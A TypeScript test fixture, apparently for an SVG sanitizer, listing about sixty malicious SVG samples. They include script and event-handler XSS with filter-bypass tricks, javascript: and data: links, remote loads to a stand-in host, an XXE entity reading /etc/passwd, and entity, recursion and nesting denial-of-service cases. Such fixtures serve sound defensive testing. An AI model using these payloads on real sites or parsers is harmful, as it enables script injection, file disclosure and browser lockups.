// SVG pictures that are meant to run a script, request something, read something or keep a browser busy. Where a script runs, it sets
// `data-hit` of the document; every request goes to a host that does not exist.
const HIT = "top.document.documentElement.dataset.hit=1";
const URL_OUT = "https://elsewhere.example/x";
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const base64 = (text: string) => Buffer.from(text).toString("base64");
const svg = (content: string, attributes = "") => `<svg ${NS} width="20" height="20" ${attributes}>${content}</svg>`;
const scriptInSvg = `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}"/>`)}`;

export const SVG_ATTACKS: Readonly<Record<string, string>> = {
  script: svg(`<script>${HIT}</script>`),
  "script with a source": svg(`<script href="${URL_OUT}"/><script xlink:href="${URL_OUT}"/>`),
  "script in CDATA": svg(`<script><![CDATA[${HIT}]]></script>`),
  "script with a prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>${HIT}</s:script></s:svg>`,
  "script of HTML": svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${HIT}</h:script>`),
  "script in definitions": svg(`<defs><g><script>${HIT}</script></g></defs>`),
  "onload of the root": svg("", `onload="${HIT}"`),
  "ONLOAD in capitals": svg("", `ONLOAD="${HIT}" OnLoad="${HIT}"`),
  "onclick and onmouseover": svg(
    `<rect width="20" height="20" onclick="${HIT}" onmouseover="${HIT}" onfocusin="${HIT}" tabindex="0"/>`,
  ),
  "onbegin of an animation": svg(`<animate attributeName="x" dur="1s" onbegin="${HIT}"/>`),
  "animation to a script": svg(`<a><text y="9">x</text><animate attributeName="href" values="javascript:${HIT}"/></a>`),
  "set of a reference": svg(
    `<a id="a"><text y="9">x</text></a><set href="#a" attributeName="href" to="javascript:${HIT}"/>`,
  ),
  "set of an event": svg(`<set attributeName="onmouseover" to="${HIT}"/>`),
  "animation of an embedded picture": svg(
    `<image><animate attributeName="href" values="${URL_OUT}" begin="0s"/></image>`,
  ),
  "discard and mpath": svg(`<discard begin="0s"/><animateMotion><mpath href="${URL_OUT}#a"/></animateMotion>`),
  "link to a script": svg(`<a href="javascript:${HIT}"><text y="9">x</text></a>`),
  "link to a script with a line break": svg(`<a xlink:href="java&#10;script:${HIT}"><text y="9">x</text></a>`),
  "link to a script with a tabulator": svg(`<a href=" &#9;JaVaScRiPt:${HIT}"><text y="9">x</text></a>`),
  "link to data": svg(`<a href="data:text/html,&lt;script>${HIT}&lt;/script>"><text y="9">x</text></a>`),
  "foreign object": svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${HIT}"><img src="x" onerror="${HIT}"/></body></foreignObject>`,
  ),
  "frame in a foreign object": svg(
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${URL_OUT}"/></foreignObject>`,
  ),
  "iframe, embed, object, audio and video": svg(
    ["iframe", "embed", "object", "audio", "video"]
      .map((name) => `<${name} xmlns="http://www.w3.org/1999/xhtml" src="${URL_OUT}" data="${URL_OUT}"/>`)
      .join(""),
  ),
  "form and input": svg(
    `<form xmlns="http://www.w3.org/1999/xhtml" action="${URL_OUT}"><input autofocus="" onfocus="${HIT}"/></form>`,
  ),
  "meta refresh and base": svg(
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${URL_OUT}"/><base xmlns="http://www.w3.org/1999/xhtml" href="${URL_OUT}"/>`,
  ),
  "link to a style sheet": svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${URL_OUT}"/>`),
  "style element with an import": svg(`<style>@import url("${URL_OUT}");</style>`),
  "style element with a background": svg(`<style>svg{background:url(${URL_OUT})}</style>`),
  "style element of HTML": svg(`<style xmlns="http://www.w3.org/1999/xhtml">svg{background:url(${URL_OUT})}</style>`),
  "style attribute with a background": svg(
    `<rect width="9" height="9" style="background:url(${URL_OUT});fill:url(${URL_OUT}#a);cursor:url(${URL_OUT})"/>`,
  ),
  "style attribute with an escape": svg(
    `<rect width="9" height="9" style="fill:\\75 rl(${URL_OUT}#a);filter:u\\72l(${URL_OUT}#b)"/>`,
  ),
  "style attribute with a comment": svg(
    `<rect width="9" height="9" style="fi/**/ll:url(${URL_OUT}#a);fill:/**/url(${URL_OUT}#a)"/>`,
  ),
  "style attribute with other functions": svg(
    `<rect width="9" height="9" style="fill:image-set('${URL_OUT}' 1x);mask:image(${URL_OUT});filter:-webkit-image-set(url(${URL_OUT}) 1x)"/>`,
  ),
  "style attribute with a quote": svg(`<rect width="9" height="9" style="fill:red&quot; onload=&quot;${HIT}"/>`),
  "processing instruction": `<?xml-stylesheet href="${URL_OUT}" type="text/css"?>${svg("")}`,
  "processing instruction with XSLT": `<?xml-stylesheet href="data:text/xml,&lt;x/>" type="text/xsl"?>${svg("")}`,
  "document type with an entity": `<!DOCTYPE svg [<!ENTITY e "&#60;script>${HIT}&#60;/script>">]>${svg("&e;")}`,
  "document type with a file": `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg("<text y='9'>&e;</text>")}`,
  "document type with a remote definition": `<!DOCTYPE svg SYSTEM "${URL_OUT}">${svg("")}`,
  "entities of entities": `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg("<text>&b;</text>")}`,
  "remote picture": svg(
    `<image href="${URL_OUT}" width="9" height="9"/><image xlink:href="//elsewhere.example/y" width="9" height="9"/>`,
  ),
  "picture of a script": svg(`<image href="${scriptInSvg}" width="9" height="9"/>`),
  "picture that is SVG by another name": svg(
    `<image href="data:image/png;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}"/>`)}" width="9" height="9"/>`,
  ),
  "remote filter picture": svg(
    `<filter id="f"><feImage href="${URL_OUT}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  "remote use": svg(
    `<use href="${URL_OUT}#a"/><use xlink:href="/graphql#a"/><use href="data:image/svg+xml;base64,${base64(svg(`<g id="a" onclick="${HIT}"/>`))}#a"/>`,
  ),
  "remote fill, filter, mask and marker": svg(
    ["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor"]
      .map((name) => `<rect width="9" height="9" ${name}="url(${URL_OUT}#a)"/>`)
      .join(""),
  ),
  "remote fill in capitals and quotes": svg(
    `<rect width="9" height="9" fill="URL('${URL_OUT}#a')" stroke="url( &quot;//elsewhere.example/x#a&quot; )"/>`,
  ),
  "remote gradient and pattern": svg(
    `<linearGradient id="g" href="${URL_OUT}#g"/><pattern id="p" xlink:href="${URL_OUT}#p"/><textPath href="${URL_OUT}#t">x</textPath>`,
  ),
  "remote font and colour profile": svg(
    `<font-face><font-face-src><font-face-uri href="${URL_OUT}"/></font-face-src></font-face><color-profile href="${URL_OUT}"/><cursor href="${URL_OUT}"/>`,
  ),
  "other base address": svg(`<image href="x.png" width="9" height="9"/>`, `xml:base="https://elsewhere.example/"`),
  "handler and listener": svg(
    `<handler xmlns="http://www.w3.org/2000/svg" type="application/ecmascript">${HIT}</handler><ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load"/>`,
  ),
  "script in title, metadata and description": svg(
    `<title><script>${HIT}</script></title><desc>&lt;script>${HIT}&lt;/script></desc><metadata><script>${HIT}</script></metadata>`,
  ),
  "end of the picture in a text": svg(`<text y="9">&lt;/text>&lt;/svg>&lt;script>${HIT}&lt;/script></text>`),
  "end of an attribute": svg(
    `<rect width="9" height="9" id="a&quot;&gt;&lt;script&gt;${HIT}&lt;/script&gt;" aria-label="&quot;&gt;&lt;script&gt;${HIT}&lt;/script&gt;"/>`,
  ),
  "script in a switch": svg(
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><script>${HIT}</script></foreignObject><text>x</text></switch>`,
  ),
  "element that uses itself": svg(`<g id="a"><use href="#a"/></g>`),
  "elements that use each other": svg(
    Array.from({ length: 12 }, (_, level) => `<g id="l${level}">${`<use href="#l${level + 1}"/>`.repeat(10)}</g>`).join(
      "",
    ),
  ),
  "patterns of patterns": svg(
    Array.from(
      { length: 12 },
      (_, level) =>
        `<pattern id="p${level}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${level + 1})"/>`.repeat(10)}</pattern>`,
    ).join(""),
  ),
  "very deep": svg(`${"<g>".repeat(5_000)}${"</g>".repeat(5_000)}`),
  "not well-formed": `<svg ${NS}><script>${HIT}</svg>`,
  "two roots": `${svg("")}<script>${HIT}</script>`,
  "root of HTML": `<html xmlns="http://www.w3.org/1999/xhtml"><svg ${NS}/><script>${HIT}</script></html>`,
  "root without a namespace": `<svg width="9" height="9" onload="${HIT}"><script>${HIT}</script></svg>`,
};
